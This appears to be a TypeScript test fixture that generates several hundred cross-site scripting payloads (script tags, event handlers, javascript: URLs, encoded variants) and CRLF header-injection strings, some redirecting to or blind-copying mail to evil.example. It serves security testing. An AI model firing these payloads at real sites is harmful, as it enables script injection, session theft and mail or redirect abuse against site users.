/** Endings that break out of the place of the string: text, an attribute with either quote, a script, a comment. */
const WAYS_OUT = ['', '"', "'", '">', "'>", '</title>', '</textarea>', '</script>', '-->', '`', '</style>', '\u0000"'];

/** Code that would run after breaking out. */
const ACTS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<math><a xlink:href="javascript:${call}">x</a></math>`,
  (call) => `<body onload=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src onerror=${call}>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<a href="jav&#x09;ascript:${call}">x</a>`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (call) => `<button formaction="javascript:${call}">x</button>`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `<style>@import 'javascript:${call}';</style>`,
  (call) => `<link rel=stylesheet href="javascript:${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => ` onmouseover=${call} autofocus onfocus=${call} x=`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\u003cscript\u003e${call}\u003c/script\u003e`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `;${call}//`,
];

function scriptInjections(): string[] {
  return WAYS_OUT.flatMap((out, row) =>
    ACTS.map((act, column) => `${out}${act(`alert(${row * ACTS.length + column})`)}`),
  ).slice(0, 500);
}

/** Line endings in the encodings that servers, proxies and mailers have accepted by mistake. */
const LINE_ENDS = ['\r\n', '\n', '\r', '%0d%0a', '%0a', '%0D', '\u2028', '\u0085', '%E5%98%8A%E5%98%8D', '\\r\\n'];

const HEADERS = [
  'Set-Cookie: injected=1',
  'X-Injected: 1',
  'Location: https://evil.example/',
  'Content-Length: 0',
  'Content-Type: text/html',
  'Access-Control-Allow-Origin: *',
  'Bcc: everybody@evil.example',
  'To: everybody@evil.example',
  'Subject: injected',
  'Refresh: 0;url=https://evil.example/',
];

function headerInjections(): string[] {
  return LINE_ENDS.flatMap((end) => HEADERS.map((header) => `Frankie${end}${header}${end}${end}`));
}

/** Texts that try to make a page run a script. Each calls `alert` with its own number if it succeeds. */
export const SCRIPT_INJECTIONS: readonly string[] = scriptInjections();

/** Texts that try to add a header to an answer or a mail. */
const HEADER_INJECTIONS: readonly string[] = headerInjections();

/** All of them. */
export const INJECTIONS: readonly string[] = [...SCRIPT_INJECTIONS, ...HEADER_INJECTIONS];

const TOGETHER = 20;

/** All injections, in as few texts as fit into an address or a message. */
export const INJECTIONS_TOGETHER: readonly string[] = Array.from(
  { length: Math.ceil(INJECTIONS.length / TOGETHER) },
  (_, index) => INJECTIONS.slice(index * TOGETHER, (index + 1) * TOGETHER).join(' '),
);
